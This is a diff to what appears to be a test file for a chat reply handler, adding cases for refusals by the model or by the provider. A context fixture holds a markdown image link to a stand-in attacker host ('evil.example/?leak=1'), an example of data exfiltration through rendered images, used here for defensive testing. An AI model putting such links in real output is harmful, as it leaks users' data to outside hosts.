@@ -13,6 +13,7 @@ SAYS: Reply = {"text": "Hello."}
 MORE: Reply = {"text": f"{OWLS}They hear very well, and see."}
 PICTURE: Reply = {"text": f"{OWLS}![x](https://evil.example/?leak=1) They see."}
 TALL: Reply = {"text": "Owls hunt ", "finish_reason": "length"}
+NO = "I would rather not help with that."
 FILTERED: Reply = {"text": "", "finish_reason": "content_filter"}
 LINES = {
     HONEST_LINE.en: "the honest line",
@@ -129,6 +130,26 @@ CASES = (
         sees=(OWLS, REFUSED_LINE.en),
         failure="content_filter",
         counted=("content_filter_line",),
+    ),
+    Case(
+        name="the model refuses, and says so itself",
+        replies=({"refusal": NO},),
+        sees=(NO,),
+    ),
+    Case(
+        name="the provider refuses half-way",
+        replies=({"text": OWLS, "finish_reason": "refusal"},),
+        sees=(OWLS, REFUSED_LINE.en),
+        failure="content_filter",
+        counted=("content_filter_line",),
+    ),
+    Case(
+        name="the provider refuses without a word, twice",
+        replies=({"text": "", "finish_reason": "refusal"},) * 2,
+        sees=(REFUSED_LINE.en,),
+        failure="content_filter",
+        calls=("exact", "exact"),
+        counted=("content_filter", "content_filter_line"),
     ),
     Case(
         name="the answer breaks its contract, once",
